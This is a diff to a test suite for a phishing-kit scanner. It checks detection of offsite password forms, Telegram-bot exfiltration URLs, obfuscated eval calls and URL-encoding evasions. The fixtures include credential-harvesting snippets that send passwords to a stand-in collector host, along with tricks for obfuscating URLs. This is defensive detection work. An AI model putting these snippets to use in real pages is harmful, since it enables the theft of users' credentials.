@@ -4,12 +4,17 @@ import { scanRules } from "@/lib/schemas";
 import { reportLines } from "@/lib/deploy/report-text";
 import { brandIn, parseRefresh } from "@/lib/scan/html";
 import { DEFAULT_BRANDS, brandList, executableHeader, redirectUrls, scanFile } from "@/lib/scan/rules";
+import { MAX_NESTING } from "@/lib/scan/html";
+import { exfiltrationEndpoint, isOffsite, resolveUrl } from "@/lib/scan/urls";
 import { lookUpUris } from "@/lib/scan/web-risk";
+import { evasions } from "../support/scan-evasions";
 import { benignLookAlikes, truePositives } from "../support/scan-fixtures";
 import { startWebRiskStandin, type WebRiskStandin } from "../support/web-risk-standin";
 
 const opts = { ownHosts: new Set(["own-drop.drops.test"]), brands: brandList(DEFAULT_BRANDS) };
 const bytes = (c: string | Uint8Array) => (typeof c === "string" ? new TextEncoder().encode(c) : c);
+/** Rule and line of each finding of a file. */
+const found = (path: string, text: string) => scanFile(path, bytes(text), opts).findings.map((f) => [f.rule, f.line]);
 
 describe("the seven rules", () => {
   it("have the stable names, four of them severe", () => {
@@ -52,6 +57,137 @@ describe("each rule finds its fixture, with file, line and excerpt", () => {
 describe("benign look-alikes are not flagged", () => {
   it.each(benignLookAlikes.map((f) => [f.name, f] as const))("%s", (_, f) => {
     expect(scanFile(f.path, bytes(f.content), opts).findings).toEqual([]);
+  });
+});
+
+describe("what a browser would run: each evasion finds what the original kit finds", () => {
+  it.each(evasions.map((f) => [f.name, f] as const))("%s", (_, f) => {
+    const { findings } = scanFile(f.path, bytes(f.content), opts);
+    expect(findings.map((x) => ({ rule: x.rule, file: x.file, line: x.line }))).toEqual([
+      { rule: f.rule, file: f.path, line: f.line },
+    ]);
+  });
+});
+
+describe("each evasion's benign look-alike finds nothing", () => {
+  it.each(evasions.map((f) => [f.lookAlike.name, f.lookAlike] as const))("%s", (_, f) => {
+    expect(scanFile(f.path, bytes(f.content), opts).findings).toEqual([]);
+  });
+});
+
+describe("one URL normaliser for every rule that names a host or path", () => {
+  it.each([
+    ["https://API.TELEGRAM.ORG/bot1/x", "api.telegram.org", "/bot1/x"],
+    ["https://api.telegram.org./bot1", "api.telegram.org", "/bot1"],
+    ["https://api.telegram.org../bot1", "api.telegram.org", "/bot1"],
+    ["https://api.telegram.org/%62ot1", "api.telegram.org", "/bot1"],
+    ["https://api.telegram.org/%62ot%zz", "api.telegram.org", "/bot%zz"],
+    ["https://api.telegr%61m.org/bot1", "api.telegram.org", "/bot1"],
+    ["https:\\\\api.telegram.org\\bot1", "api.telegram.org", "/bot1"],
+    ["https://user:pw@api.telegram.org:443/./x/../bot1", "api.telegram.org", "/bot1"],
+    ["https://ａｐｉ.telegram.org/bot1", "api.telegram.org", "/bot1"],
+  ])("%s is host %s, path %s, a collector", (raw, host, path) => {
+    const url = resolveUrl(raw)!;
+    expect({ host: url.host, path: url.path }).toEqual({ host, path });
+    expect(exfiltrationEndpoint(url)).toBe("Telegram bot API");
+  });
+
+  it("a relative URL is the drop's own; other schemes and what does not parse are nothing", () => {
+    expect(isOffsite(resolveUrl("/login")!, new Set())).toBe(false);
+    expect(isOffsite(resolveUrl("https://Own.Example./x")!, new Set(["own.example"]))).toBe(false);
+    expect(resolveUrl("javascript:alert(1)")).toBeNull();
+    expect(resolveUrl("https://[nope/")).toBeNull();
+  });
+});
+
+describe("what scripts do to the page, further shapes", () => {
+  it("a whole form made by a script, its password included, posting elsewhere", () => {
+    const js = `var f = document.createElement("form");
+f.action = "https://collector.example/p";
+var p = document.createElement("input");
+p.type = "password";
+f.appendChild(p);
+document.body.appendChild(f);`;
+    expect(found("make.js", js)).toEqual([["credential-form-offsite", 2]]);
+    expect(found("make.js", js.replace("https://collector.example/p", "/p"))).toEqual([]);
+  });
+
+  it("a script file alone: a password it makes and an action it sets elsewhere", () => {
+    const js = `$("#login").attr("action", "https://collector.example/p");
+$("#slot").html('<input type="password" name="p">');`;
+    expect(found("kit.js", js)).toEqual([["credential-form-offsite", 1]]);
+    expect(found("kit.js", js.split("\n")[0]!)).toEqual([]);
+  });
+
+  it("jQuery and document.forms by name reach the named form only", () => {
+    const html = `<form name="login" action="/in"><input type="password"></form>
+<form name="news"><input name="e"></form>
+<script>$("form[name=news]").attr("action", "https://lists.example/s");
+document.forms.login.setAttribute("action", "https://collector.example/p");</script>`;
+    expect(found("p.html", html)).toEqual([["credential-form-offsite", 4]]);
+  });
+
+  it("a form's onsubmit handler that sets an action elsewhere", () => {
+    const html = `<form action="/in" onsubmit="this.action='https://collector.example/p'"><input type="password"></form>`;
+    expect(found("p.html", html)).toEqual([["credential-form-offsite", 1]]);
+  });
+
+  it("the password made in one script and the action set in another", () => {
+    const html = `<form action="/in"><input name="u"></form>
+<script>var p = document.createElement("input"); p.type = "password"; document.forms[0].appendChild(p);</script>
+<script>document.forms[0].action = "https://collector.example/p";</script>`;
+    expect(found("p.html", html)).toEqual([["credential-form-offsite", 3]]);
+  });
+
+  it("a show/hide toggle on a field the scan cannot name makes no form a password form", () => {
+    const html = `<form action="/in"><input type="password" id="pw"><button type="button" onclick="t(this)">Show</button></form>
+<form action="https://duckduckgo.com/"><input name="q"></form>
+<script>function t(b) { var f = b.previousElementSibling; f.type = f.type === "text" ? "password" : "text"; b.previousElementSibling.type = "password"; }</script>`;
+    expect(found("p.html", html)).toEqual([]);
+  });
+
+  it("markup a script writes is a document: a kit's form in document.write", () => {
+    const html = `<p>x</p>
+<script>document.write('<form action="https://collector.example/p">' + '<input type="password"></form>');</script>`;
+    expect(found("p.html", html)).toEqual([["credential-form-offsite", 2]]);
+  });
+
+  it("a script cut at the byte budget: string tokens joined with + are folded", () => {
+    const js = `var u = "https://api.tele" + "gram.org/bot1:x/sendMessage";\nfunction f( {`;
+    expect(found("cut.js", js)).toEqual([["exfiltration-endpoint", 1]]);
+  });
+
+  it("eval.call and (0, eval) over decoded text are calls of eval", () => {
+    expect(found("a.js", `eval.call(null, atob("YQ=="));`)).toEqual([["obfuscated-script", 1]]);
+    expect(found("a.js", `(0, window["ev" + "al"])(atob("YQ=="));`)).toEqual([["obfuscated-script", 1]]);
+  });
+});
+
+describe("the scan stays bounded", () => {
+  it("a chain of 50,000 strings joined with + folds once, without running out of stack", () => {
+    const js = `var u = "https://api.telegram.org/bot"${' + "x"'.repeat(50_000)};`;
+    const started = performance.now();
+    expect(scanFile("long.js", bytes(js), opts).findings.map((f) => f.rule)).toEqual(["exfiltration-endpoint"]);
+    expect(performance.now() - started).toBeLessThan(2_000);
+  });
+
+  it("constants that double at each step are cut, not built", () => {
+    const lines = ['var a0 = "<input type=password>";'];
+    for (let i = 1; i <= 40; i++) lines.push(`var a${i} = a${i - 1} + a${i - 1};`);
+    lines.push("document.body.innerHTML = a40;");
+    const started = performance.now();
+    scanFile("double.js", bytes(lines.join("\n")), opts);
+    expect(performance.now() - started).toBeLessThan(2_000);
+  });
+
+  it(`srcdoc documents are read ${MAX_NESTING} deep, no deeper`, () => {
+    const kit = `<form action="https://collector.example/p"><input type="password"></form>`;
+    const wrap = (inner: string) =>
+      `<iframe srcdoc="${inner.replace(/&/g, "&amp;").replace(/"/g, "&quot;")}"></iframe>`;
+    let page = kit;
+    for (let i = 0; i < MAX_NESTING; i++) page = wrap(page);
+    expect(found("deep.html", page)).toEqual([["credential-form-offsite", 1]]);
+    expect(found("deeper.html", wrap(page))).toEqual([]);
   });
 });
 
